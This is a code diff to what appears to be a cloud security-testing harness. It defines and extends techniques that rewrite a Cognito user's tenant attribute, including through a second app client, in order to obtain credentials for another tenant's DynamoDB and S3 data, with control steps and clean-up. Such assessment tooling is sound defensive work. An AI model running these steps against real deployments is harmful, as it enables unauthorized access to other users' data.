@@ -15,6 +15,7 @@ if TYPE_CHECKING:
 
     from harness.attacks.aim import Aim
     from harness.attacks.technique import Step
+    from harness.secret import Secret
 
 _ATTRIBUTES = "https://docs.aws.amazon.com/cognito/latest/developerguide/user-pool-settings-attributes.html"
 # Any password that every sound policy of a pool accepts; the user is deleted again at once.
@@ -29,11 +30,11 @@ def _attributes(values: Mapping[str, str]) -> list[dict[str, str]]:
     return [{"Name": name, "Value": value} for name, value in values.items()]
 
 
-def _write(aim: Aim, values: Mapping[str, str]) -> ApiRequest:
+def _write(token: Secret, values: Mapping[str, str]) -> ApiRequest:
     return _call(
         "cognito-idp",
         "UpdateUserAttributes",
-        AccessToken=aim.access_token.reveal(),
+        AccessToken=token.reveal(),
         UserAttributes=_attributes(values),
     )
 
@@ -52,10 +53,14 @@ def _logins(aim: Aim, answer: Mapping[str, Any]) -> dict[str, str]:
     return {aim.deployment.provider: answer["AuthenticationResult"]["IdToken"]}
 
 
-def _rewritten(aim: Aim, values: Mapping[str, str]) -> tuple[Step, ...]:
+def _elsewhere(aim: Aim) -> Secret:
+    return aim.tokens.access_token_elsewhere(aim.caller)
+
+
+def _rewritten(aim: Aim, token: Secret, values: Mapping[str, str]) -> tuple[Step, ...]:
     """Return the steps that write attributes, take new tokens, exchange them and use the session on the aim."""
     return (
-        _write(aim, values),
+        _write(token, values),
         lambda _: _refresh(aim),
         lambda answer: _call(
             "cognito-identity",
@@ -118,7 +123,8 @@ def _own_claims_again(aim: Aim) -> tuple[ApiRequest, ...]:
     added = [name for name in aim.victims_attributes if name not in aim.own_attributes]
     deleting = [_call("cognito-idp", "AdminDeleteUserAttributes", **params, UserAttributeNames=added)] if added else []
     own = _attributes(aim.own_attributes)
-    return (*deleting, _call("cognito-idp", "AdminUpdateUserAttributes", **params, UserAttributes=own))
+    writing = [_call("cognito-idp", "AdminUpdateUserAttributes", **params, UserAttributes=own)] if own else []
+    return (*deleting, *writing)
 
 
 _CLAIM = partial(
@@ -129,9 +135,10 @@ _CLAIM = partial(
     documentation=_ATTRIBUTES,
     cwe=("CWE-639", "CWE-915"),
     callers=Callers.MEMBERS,
-    victims=Callers.MEMBERS,
+    victims=Callers.OWNERS,
     actions=("dynamodb:GetItem", "s3:GetObject"),
     refusals=(r"unauthorized attribute", r"Attribute cannot be updated"),
+    first_step_decides=True,
 )
 
 TECHNIQUES = (
@@ -141,8 +148,18 @@ TECHNIQUES = (
         operation="UpdateUserAttributes",
         catalogue=("up-tenant-attr-client-writable", "up-empty-writeattributes-default"),
         requires=frozenset({Feature.ENHANCED_FLOW, Feature.TENANT_CLAIM}),
-        steps=lambda aim: _rewritten(aim, aim.victims_attributes),
-        control_steps=lambda aim: _rewritten(aim, {"name": "somebody"}),
+        steps=lambda aim: _rewritten(aim, aim.access_token, aim.victims_attributes),
+        control_steps=lambda aim: _rewritten(aim, aim.access_token, {"name": "somebody"})[:-1],
+        clean_up=_own_claims_again,
+    ),
+    _CLAIM(
+        id="user-pool.session.rewrite-claim-elsewhere",
+        title="the same through another app client, the new token from the users' own",
+        operation="UpdateUserAttributes",
+        catalogue=("x-second-app-client-or-environment", "idp-principal-tag-from-mutable-claim"),
+        requires=frozenset({Feature.ENHANCED_FLOW, Feature.TENANT_CLAIM, Feature.SECOND_APP_CLIENT}),
+        steps=lambda aim: _rewritten(aim, _elsewhere(aim), aim.victims_attributes),
+        control_steps=lambda aim: _rewritten(aim, _elsewhere(aim), {"name": "somebody"})[:-1],
         clean_up=_own_claims_again,
     ),
     _CLAIM(
